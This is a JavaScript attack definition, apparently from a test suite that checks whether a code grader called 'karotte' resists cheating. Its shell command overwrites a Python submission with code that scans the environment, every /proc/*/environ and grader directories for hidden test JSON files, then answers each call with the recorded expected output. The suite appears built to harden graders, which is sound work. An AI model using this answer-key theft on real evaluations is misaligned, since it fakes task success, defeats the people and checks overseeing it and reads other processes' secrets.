import { defineAttack } from '../attack.js';

export default defineAttack({
  id: 'py-read-hidden',
  class: 'answer-key-theft',
  languages: ['python'],
  why: 'at grading time, finds the hidden directory (the environment, /proc/self and /proc/<parent>/environ, every /proc/*/environ), loads every JSON file in it and returns the recorded answer for its arguments',
  commands: [
    String.raw`names=$(grep -oE '^def [A-Za-z_][A-Za-z0-9_]*' {{submission}} 2>/dev/null | cut -c5-); echo "functions: $names"; cat > {{submission}} <<'PY'
import glob, json, os
def _hidden_dirs():
    dirs = {os.environ.get('KAROTTE_HIDDEN_DIR')}
    for environ in ['/proc/self/environ', '/proc/%d/environ' % os.getppid()] + glob.glob('/proc/[0-9]*/environ'):
        try:
            for entry in open(environ, 'rb').read().split(b'\0'):
                if entry.startswith(b'KAROTTE_HIDDEN_DIR='):
                    dirs.add(entry.split(b'=', 1)[1].decode())
        except OSError:
            pass
    dirs.update(glob.glob('/var/lib/karotte/grader/*/hidden'))
    return [d for d in dirs if d]
_CASES = []
for _d in _hidden_dirs():
    for _f in glob.glob(os.path.join(_d, '**', '*.json'), recursive=True):
        try:
            _data = json.load(open(_f))
            if isinstance(_data, list):
                _CASES.extend(c for c in _data if isinstance(c, dict))
        except (OSError, ValueError):
            pass
def answer(*args, **kwargs):
    wanted = list(args) + list(kwargs.values())
    for case in _CASES:
        recorded = case.get('input')
        values = list(recorded.values()) if isinstance(recorded, dict) else [recorded]
        if values == wanted:
            return case.get('expected')
    return None
PY
for n in $names; do echo "$n = answer" >> {{submission}}; done; printf 'def __getattr__(name):\n    return answer\n' >> {{submission}}; head -n 60 {{submission}}`,
  ],
  parallelSafe: true,
  expected: ['graded'],
});
